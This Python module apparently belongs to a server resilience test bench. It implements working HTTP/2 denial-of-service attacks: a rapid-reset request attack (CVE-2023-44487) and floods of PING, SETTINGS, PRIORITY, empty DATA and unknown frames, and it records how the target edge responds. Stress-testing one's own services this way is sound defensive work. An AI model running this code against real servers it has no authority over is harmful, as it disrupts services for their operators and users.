"""Attacks over HTTP/2: requests that are reset at once, and floods of frames that cost nothing to
send."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator, Callable
from typing import Final

from hpack import Decoder, Encoder, HPACKError

from bench.hostile.http1 import CHAT, connection
from bench.hostile.target import Findings, Target, crowd

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS = range(5)
_PING, _GOAWAY, _WINDOW_UPDATE = range(6, 9)
_END_STREAM: Final = 0x1
_END_HEADERS: Final = 0x4
_FLOOD_FRAMES: Final = 20_000
"""Of one connection, unless the edge ends it before."""
_BURST_FRAMES: Final = 500
_STREAMS: Final = 200
"""Requests of one connection that are reset."""
_PATIENCE_S: Final = 3.0
"""For the edge to read what it was sent, before another connection sends as much."""


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """RFC 9113, section 4.1."""
    head = len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream_id.to_bytes(4, "big")
    return head + payload


def section(method: str, path: str, **fields: str) -> bytes:
    """A request's header section, the same bytes however often it is sent on a connection."""
    pseudo = {":method": method, ":scheme": "http", ":authority": "localhost", ":path": path}
    return bytes(Encoder().encode([*pseudo.items(), *fields.items()]))


class Http2:
    """One connection. What comes is read all the while."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer
        self._decoder = Decoder()
        self._changed = asyncio.Event()
        self.statuses: list[int] = []
        self.num_reset = 0
        self.is_ended = False
        """The edge has closed, or says that it does."""

    async def send(self, data: bytes) -> None:
        """Raises OSError where the edge has closed."""
        self._writer.write(data)
        await self._writer.drain()

    async def heard(self, timeout_s: float) -> None:
        """Return when a request was answered or reset, the edge has closed, or the time is over."""
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(timeout_s):
                while not (self.statuses or self.num_reset or self.is_ended):
                    self._changed.clear()
                    await self._changed.wait()

    async def read_on(self) -> None:
        """Until the connection ends."""
        try:
            while True:
                head = await self._reader.readexactly(9)
                payload = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
                if head[3] == _HEADERS:
                    fields = dict(self._decoder.decode(payload, raw=True))
                    self.statuses.append(int(fields.get(b":status", b"0")))
                self.num_reset += head[3] == _RST_STREAM
                self.is_ended |= head[3] == _GOAWAY
                self._changed.set()
        except (OSError, EOFError, HPACKError):
            self.is_ended = True
            self._changed.set()


@contextlib.asynccontextmanager
async def http2(target: Target, findings: Findings) -> AsyncIterator[Http2]:
    """A connection, aborted in the end; what it was answered is noted then."""
    with contextlib.suppress(OSError):
        async with connection(target) as (reader, writer):
            opened = Http2(reader, writer)
            reading = asyncio.create_task(opened.read_on())
            try:
                await opened.send(_PREFACE + frame(_SETTINGS, 0, 0))
                yield opened
            except OSError:
                opened.is_ended = True
            finally:
                reading.cancel()
                await asyncio.gather(reading, return_exceptions=True)
                for status in opened.statuses:
                    findings.answered(status)
                findings.count("streams reset by the edge", opened.num_reset)
                findings.count("connections ended by the edge", int(opened.is_ended))
    findings.count("connections")


async def rapid_resets(target: Target, seconds: float, findings: Findings) -> None:
    """Requests of chats that a key allows, each reset in the packet that begins it
    (CVE-2023-44487)."""
    fields = {"authorization": f"Bearer {target.key}", "content-type": "application/json"}
    chat = {"messages": [{"role": "user", "content": "Go on for ever."}], "max_tokens": 400}
    head, body = section("POST", CHAT, **fields), json.dumps(chat).encode()

    async def send(_: int) -> None:
        async with http2(target, findings) as opened:
            for number in range(1, 2 * _STREAMS, 2):
                begun = frame(_HEADERS, _END_HEADERS, number, head)
                if number % 4 == 1:
                    begun += frame(_DATA, _END_STREAM, number, body)
                await opened.send(begun + frame(_RST_STREAM, 0, number, bytes(4)))
            await opened.heard(_PATIENCE_S)

    await crowd(seconds, send, 4)


def _change(number: int) -> bytes:
    return frame(_SETTINGS, 0, 0, b"\x00\x04" + (1000 + number).to_bytes(4, "big"))


FLOODS: Final[tuple[Callable[[int], bytes], ...]] = (
    lambda _: frame(_PING, 0, 0, bytes(8)),
    _change,
    lambda _: frame(_DATA, 0, 1) + frame(_WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")),
    lambda number: frame(_PRIORITY, 0, 1 + 2 * number, bytes(4) + b"\x10"),
    lambda _: frame(0x7F, 0, 0, b"x"),
)
"""One frame or two with next to nothing in them, by number."""


async def control_floods(target: Target, seconds: float, findings: Findings) -> None:
    """Twenty thousand PINGs, SETTINGS, empty DATA, PRIORITY or unknown frames on each
    connection."""

    async def send(number: int) -> None:
        made = FLOODS[number % len(FLOODS)]
        async with http2(target, findings) as opened:
            await opened.send(frame(_HEADERS, _END_HEADERS, 1, section("GET", "/hidden")))
            for at in range(0, _FLOOD_FRAMES, _BURST_FRAMES):
                if opened.is_ended:
                    break
                await opened.send(b"".join(map(made, range(at, at + _BURST_FRAMES))))
                findings.count("frames", _BURST_FRAMES)
            await opened.heard(_PATIENCE_S)

    await crowd(seconds, send, 4)
